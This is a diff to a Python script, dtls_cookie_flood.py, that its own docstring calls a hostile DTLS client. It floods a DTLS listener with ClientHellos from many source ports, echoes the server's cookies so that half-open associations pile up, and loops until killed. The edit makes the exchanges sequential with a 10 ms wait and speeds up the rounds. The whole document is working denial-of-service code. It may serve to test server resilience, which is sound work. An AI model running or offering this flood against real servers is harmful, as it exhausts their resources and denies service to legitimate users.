@@ -1,7 +1,8 @@
 #!/usr/bin/env python3
 """A hostile DTLS client: from SOURCE, in rounds, opens PORTS sockets (one source port each),
-sends a DTLS 1.2 ClientHello on each, answers each HelloVerifyRequest with the ClientHello
-that echoes its cookie (so the listener creates a half-open association), then goes silent.
+one after the other sends a DTLS 1.2 ClientHello on each and answers the HelloVerifyRequest
+(if one comes within 10 ms) with the ClientHello that echoes its cookie, so the listener
+creates a half-open association; then it goes silent.
 It loops until killed, and prints one line per round ("round N: M cookies echoed").
 
 usage: dtls_cookie_flood.py SOURCE HOST PORT PORTS
@@ -52,38 +53,31 @@ def cookie_of(datagram):
 round_no = 0
 while True:
     round_no += 1
-    socks, randoms = [], {}
+    socks = []
+    echoed = 0
+    # One exchange after the other, as fast as the listener answers.
     for _ in range(ports):
         s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
         s.bind((source, 0))
-        s.setblocking(False)
+        socks.append(s)
         r = os.urandom(32)
-        randoms[s.fileno()] = r
         try:
             s.sendto(client_hello(r, b"", 0), (host, port))
         except OSError:
-            pass
-        socks.append(s)
-    by_fd = {s.fileno(): s for s in socks}
-    pending = set(by_fd)
-    echoed = 0
-    deadline = time.monotonic() + 1.0
-    while pending and time.monotonic() < deadline:
-        ready, _, _ = select.select(list(pending), [], [], 0.1)
-        for fd in ready:
-            try:
-                data = by_fd[fd].recv(4096)
-            except OSError:
-                pending.discard(fd)
-                continue
-            cookie = cookie_of(data)
-            if cookie is None:
-                continue
-            by_fd[fd].sendto(client_hello(randoms[fd], cookie, 1), (host, port))
-            pending.discard(fd)
-            echoed += 1
+            continue
+        ready, _, _ = select.select([s], [], [], 0.01)
+        if not ready:
+            continue
+        try:
+            cookie = cookie_of(s.recv(4096))
+        except OSError:
+            continue
+        if cookie is None:
+            continue
+        s.sendto(client_hello(r, cookie, 1), (host, port))
+        echoed += 1
     print(f"round {round_no}: {echoed} cookies echoed", flush=True)
     # Silent from here: the half-open associations wait for a client that never answers.
-    time.sleep(0.5)
+    time.sleep(0.1)
     for s in socks:
         s.close()
